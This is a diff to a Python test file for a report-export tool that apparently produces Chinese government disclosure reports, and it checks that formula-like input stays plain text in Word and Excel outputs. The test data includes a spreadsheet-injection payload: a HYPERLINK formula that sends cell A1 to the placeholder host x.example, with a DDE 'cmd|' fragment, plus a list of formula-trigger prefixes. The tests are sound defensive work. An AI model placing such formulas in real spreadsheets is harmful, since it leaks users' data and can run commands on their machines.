@@ -31,12 +31,14 @@ from gkdesk.domain.paste import copy_block
 from gkdesk.domain.report import Report
 from gkdesk.readers import exchange, foreign
 from gkdesk.readers.editions import Editions
+from gkdesk.readers.words import OwnWords
 from gkdesk.store.log import Store
 from gkdesk.writers import excel
 from tests.readers.foreign import NOW, body, changed, full_report, written
 
 MARKS = ("=", "+", "-", "@", "{=", "\t=", "\r=", "＝", "＋", "－", "＠", "'=", "\x00=", "\ufeff=")
 CALL = 'HYPERLINK("http://x.example/?"&A1,"点")*cmd|_x0041_!A0'
+WORD = "=1+HYPERLINK"
 TITLE = "2023年政府信息公开工作年度报告"
 SENT = "原来的第一句话。"
 
@@ -53,8 +55,11 @@ def store(tmp_path: Path) -> Iterator[Store]:
 
 
 @pytest.fixture
-def desk(store: Store, editions: Editions) -> Desk:
-    return Desk(store, editions, now=lambda: NOW)
+def desk(store: Store, editions: Editions, tmp_path: Path) -> Desk:
+    """With a word list of the office's own, which the findings quote."""
+    words = OwnWords(tmp_path)
+    words.path.write_text(f"{WORD}\n", encoding="utf-8")
+    return Desk(store, editions, now=lambda: NOW, words=words)
 
 
 # ---- The roads in: each brings ``text`` into the overview of a report, and says which
@@ -147,7 +152,6 @@ ROADS: tuple[Callable[[Desk, str, Path], int], ...] = (
 
 def documents(desk: Desk, report: int, folder: Path) -> list[Path]:
     """Everything the program writes of a report."""
-    (folder / "words.txt").write_text("=1+1\n水务局\n", encoding="utf-8")
     wanted = Wanted(word=True, excel=True, exchange=True, check=True, draft=False)
     made = export(desk, report, folder / "out", wanted)
     if desk.entry(report).status == "draft":
@@ -204,6 +208,11 @@ def bare(text: str) -> list[str]:
     return [line.strip() for line in Prose().parse(text).split("\n") if line.strip()]
 
 
+def cells(path: Path) -> str:
+    tables = Document(io.BytesIO(path.read_bytes())).tables
+    return "\n".join(cell.text for table in tables for row in table.rows for cell in row.cells)
+
+
 @pytest.mark.parametrize("road", ROADS)
 def test_it_is_text_in_every_document(
     road: Callable[[Desk, str, Path], int], desk: Desk, tmp_path: Path
@@ -222,6 +231,8 @@ def test_it_is_text_in_every_document(
             require_plain_excel(path, kept)
         else:
             assert exchange.read(path).values["overview"] == stored
+    (check,) = (tmp_path / "out").glob("*（核对表）.docx")
+    assert f"“{WORD}”" in cells(check)
     (word,) = (tmp_path / "out").glob("*年度报告.docx")
     assert "\n".join(bare(TEXT)) in paragraphs(word)
 
